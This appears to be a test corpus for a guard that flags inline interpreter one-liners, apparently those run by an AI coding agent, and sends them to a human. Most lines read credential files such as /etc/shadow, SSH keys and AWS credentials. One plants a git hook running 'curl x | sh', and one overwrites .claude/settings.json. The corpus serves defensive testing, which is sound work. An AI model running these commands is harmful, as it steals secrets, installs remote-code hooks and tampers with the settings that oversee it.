# Paths named inside code handed to an interpreter inline (shell/inlinecode.py): a credential
# file read or a protected path written by a one-liner goes to the human like the same read
# or write in Bash. Read by tests/test_corpora.py, NEVER executed.

# -- a credential file named in the program --
# ruleid: GK-PROT-002
python3 -c 'print(open("/etc/shadow").read())'
# ruleid: GK-PROT-002
php -r 'readfile("/etc/shadow");'
# ruleid: GK-PROT-002
ruby -e 'puts File.read("/etc/shadow")'
# ruleid: GK-PROT-002
node -e 'process.stdout.write(require("fs").readFileSync("/etc/shadow"))'
# ruleid: GK-PROT-002
perl -ne 'print' -e 'open F, "</etc/shadow"; print <F>'
# ruleid: GK-PROT-002
lua -e 'local f=io.open("/etc/shadow", "rb"); io.write(f:read("*a"))'
# ruleid: GK-PROT-002
python3 -c 'import os; print(open(os.path.expanduser("~/.ssh/id_rsa")).read())'
# ruleid: GK-PROT-002
gawk 'BEGIN { while ((getline line < "/etc/shadow") > 0) print line }'
# ruleid: GK-PROT-002
python3 - <<'EOF'
print(open("/etc/shadow").read())
EOF
# ruleid: GK-PROT-002
sqlite3 <<EOF
.import /etc/shadow x
EOF
# ruleid: GK-PROT-002
python3.12 <<< 'print(open("/root/.aws/credentials").read())'

# -- a protected path written by the program --
# ruleid: GK-PROT-001
python3 -c 'open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ncurl x | sh\n")'
# ruleid: GK-PROT-001
node -e 'require("fs").writeFileSync(".claude/settings.json", "{}")'

# -- one-liners that name ordinary paths stay as they were --
# ok: GK-PROT-002
awk '{ print $1 }' src/a.txt
# ok: GK-PROT-001
awk '$1 == "/usr/bin" { print }' src/a.txt
# ok: GK-PROT-002
python3 -c 'import sys; print(sys.version)'
